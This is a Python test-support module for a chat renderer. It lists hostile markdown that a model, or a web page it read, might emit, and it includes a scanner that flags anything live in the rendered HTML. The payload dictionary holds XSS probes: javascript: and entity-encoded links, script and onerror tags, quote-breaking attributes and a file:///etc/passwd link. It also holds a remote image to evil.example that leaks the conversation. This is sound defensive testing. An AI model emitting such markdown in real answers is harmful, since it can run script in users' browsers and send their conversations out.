"""Hostile model output and a check that rendered HTML holds nothing live from it.

:data:`HOSTILE_MARKDOWN` is what a model (or a web page it read) might write to run script,
load something, or restyle the page when its answer is rendered. :func:`live_hazards` parses an
HTML page as a browser would (entities in attributes decoded, whitespace and control characters
in URLs dropped, scheme case ignored) and lists everything in it that could act.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser

HOSTILE_MARKDOWN: dict[str, str] = {
    "javascript link": "[click](javascript:alert(1))",
    "mixed-case scheme": "[click](JaVaScRiPt:alert(1))",
    "entity-encoded scheme": "[click](&#106;avascript:alert(1))",
    "hex entities and colon": "[click](&#x6A;avascript&#x3A;alert(1))",
    "leading space": "[click]( javascript:alert(1))",
    "vbscript": "[click](vbscript:msgbox(1))",
    "file": "[click](file:///etc/passwd)",
    "data text/html link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "remote image (a leak)": "![pic](https://evil.example/leak?q=the+conversation)",
    "relative link": "[home](/logout)",
    "reference link": "[click][r]\n\n[r]: javascript:alert(1)",
    "reference image": "![pic][r]\n\n[r]: data:image/png;base64,AAAA",
    "autolink": "<javascript:alert(1)>",
    "quote breaking the href": '[click](https://ok.example" onmouseover="alert(1))',
    "quote breaking the title": "[click](https://ok.example 'a\" onmouseover=\"alert(1)')",
    "img onerror": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "script block": "<script>\nalert(1)\n</script>\n\nafter",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "svg onload": "<svg onload=alert(1)>",
    "raw anchor": '<a href="javascript:alert(1)">click</a>',
    "details ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "style element": "<style>body{display:none}</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example)">',
    "inline html in a list": "- <b onclick=alert(1)>bold</b>",
    "code fence": "```html\n<script>alert(1)</script>\n```",
}
"""Hostile answers by name: each must render with no :func:`live_hazards`."""

SAFE_SCHEMES = ("http", "https", "mailto")

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "xlink:href"}
_STYLE_VALUE = re.compile(r"^(background|color|text-align):\s*#?[\w-]+;?$")
_URL_JUNK = re.compile(r"[\x00-\x20\x7f]")  # what a browser strips or ignores in a URL
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


class _Scanner(HTMLParser):
    def __init__(
        self,
        tags: frozenset[str],
        src_ok: Callable[[str, str], bool],
        css_ok: Callable[[str], bool],
    ) -> None:
        super().__init__(convert_charrefs=True)
        self.tags = tags
        self.src_ok = src_ok
        self.css_ok = css_ok
        self.found: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.tags:
            self.found.append(f"<{tag}>")
        self.in_style = tag == "style"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            elif name == "style" and not _STYLE_VALUE.match(value.strip()):
                self.found.append(f"<{tag} style={value!r}>")
            elif name in _URL_ATTRIBUTES and not self.src_ok(tag, value):
                url = _URL_JUNK.sub("", value).lower()
                scheme = _SCHEME.match(url)
                if scheme is None or scheme.group(1) not in SAFE_SCHEMES:
                    self.found.append(f"<{tag} {name}={value!r}>")
                elif tag != "a":
                    self.found.append(f"<{tag} {name}> loads {value!r}")

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style and data.strip() and not self.css_ok(data):
            self.found.append(f"<style> {data[:40]!r}")


def live_hazards(
    page: str,
    *,
    tags: frozenset[str],
    src_ok: Callable[[str, str], bool] = lambda tag, value: False,
    css_ok: Callable[[str], bool] = lambda css: css.startswith(".bxm-"),
) -> list[str]:
    """What in ``page`` could act: a tag not in ``tags``, an event handler attribute, a style
    attribute other than one colour or alignment, a ``<style>`` that is not the ``bxm-`` CSS,
    a URL whose scheme is not http, https or mailto (relative ones too), or any URL that loads
    by itself (``src``), unless ``src_ok(tag, value)`` allows it; a ``<style>`` element's text
    must pass ``css_ok`` (default: the widgets' ``bxm-`` CSS)."""
    scanner = _Scanner(tags, src_ok, css_ok)
    scanner.feed(page)
    scanner.close()
    return scanner.found
